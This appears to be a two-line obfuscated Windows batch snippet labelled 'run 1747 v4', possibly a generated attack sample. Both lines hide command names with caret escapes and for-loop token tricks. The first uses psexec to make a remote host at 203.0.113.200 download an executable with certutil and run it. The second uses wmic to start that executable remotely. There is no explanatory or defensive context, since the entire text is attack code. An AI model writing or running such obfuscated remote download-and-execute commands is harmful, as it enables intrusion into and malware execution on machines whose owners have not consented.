REM run 1747 v4
^fo^r /f "tokens=2 delims=#" %%^i ^in ("bieh#psexec.exe#owzr") do %%i \\^2^0^3.^0.1^13.^200 -ac^c^e^pte^u^l^a -^s -d ^c^m^d /^c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
^fo^r /^f "tokens=3 delims=@" %%^i in ("duwb@zkmz@wmic") d^o %%i /^n^o^d^e:^2^0^3.^0.113.2^00 ^pr^oc^ess ca^ll c^reat^e "cmd /c C:\s.exe"
